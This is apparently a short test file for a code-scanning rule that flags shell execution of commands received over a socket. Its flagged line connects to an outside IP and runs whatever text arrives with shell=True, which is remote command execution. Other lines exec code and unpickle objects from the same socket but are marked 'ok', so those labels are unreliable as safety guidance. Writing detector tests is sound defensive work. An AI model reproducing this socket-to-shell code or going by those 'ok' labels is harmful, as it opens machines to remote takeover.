# Commands received over a socket, run.
import socket, subprocess
s = socket.create_connection(("198.51.100.23", 8443))
data = s.recv(4096)
cmd = data.decode(errors="ignore").strip()
# ruleid: py_exec_decoded
subprocess.run(cmd, shell=True)
# ok: py_exec_decoded
subprocess.run(["nmap", "-oX", "-", target])
# code and objects read from a socket are how RPC libraries and remote consoles work
line = s.recv(1024).decode()
# ok: py_exec_decoded
exec(compile(line + "\n", "<remote pyin>", "single"))
# ok: py_exec_decoded
obj = pickle.loads(s.recv(65536))
